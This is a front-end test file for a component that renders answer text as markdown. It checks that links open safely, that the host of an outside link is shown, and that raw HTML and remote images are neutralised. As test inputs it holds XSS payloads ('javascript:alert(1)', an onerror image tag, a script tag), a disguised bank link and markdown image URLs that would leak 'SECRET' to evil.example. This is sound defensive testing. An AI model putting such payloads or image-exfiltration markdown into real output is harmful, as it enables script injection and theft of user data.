import { screen } from '@testing-library/react';
import { renderScreen } from '@portal/shared/testing';
import { AnswerText } from './answer-text';

const renderAnswer = (content: string) => renderScreen(<AnswerText content={content} id="a" />);

describe('the text of an answer', () => {
  test('renders emphasis, lists, tables and quotes', () => {
    renderAnswer('> **Bold** text\n\n- one\n- two\n\n| a | b |\n| --- | --- |\n| 1 | 2 |');
    expect(screen.getByText('Bold').tagName).toBe('STRONG');
    expect(screen.getAllByRole('listitem')).toHaveLength(2);
    expect(screen.getByRole('cell', { name: '2' })).toBeInTheDocument();
  });

  test('opens links in a new tab without an opener', () => {
    renderAnswer('[Users](/help/en/users#sort)');
    const link = screen.getByRole('link', { name: /^Users/ });
    expect(link).toHaveAttribute('href', '/help/en/users#sort');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  test('shows the host of a link to another site', () => {
    renderAnswer('[My bank](https://evil.example/login) and [home](/home)');
    expect(screen.getByRole('link', { name: /My bank \(evil\.example\)/ })).toBeInTheDocument();
    expect(screen.getByRole('link', { name: /^home \(opens/ })).toBeInTheDocument();
  });

  test.each([
    '[x](javascript:alert(1))',
    '[x](data:text/html,1)',
    '[x](//evil.example)',
    '<javascript:alert(1)>',
    '[x](/api/v1/me)',
  ])('renders no link for %s', (content) => {
    renderAnswer(content);
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
  });

  test.each([
    '![a](https://evil.example/?d=SECRET)',
    '![a][1]\n\n[1]: https://evil.example/?d=SECRET',
    '| ![a](https://evil.example/?d=SECRET) |\n| --- |',
    'a[^1]\n\n[^1]: ![a](https://evil.example/?d=SECRET)',
  ])('shows an image as text and never fetches it: %s', (content) => {
    renderAnswer(content);
    expect(screen.queryByRole('img')).not.toBeInTheDocument();
    expect(screen.getByText(/Image: a/)).toBeInTheDocument();
  });

  test('shows raw HTML as text', () => {
    renderAnswer('<img src=x onerror=alert(1)> <b id="remote_chat">b</b>\n\n<script>alert(1)</script>');
    expect(screen.queryByRole('img')).not.toBeInTheDocument();
    expect(document.body.innerHTML).not.toMatch(/<script|<b |onerror=alert\(1\)>/);
  });

  test('renders headings as bold paragraphs', () => {
    renderAnswer('# Title');
    expect(screen.queryByRole('heading')).not.toBeInTheDocument();
    expect(screen.getByText('Title')).toBeInTheDocument();
  });
});
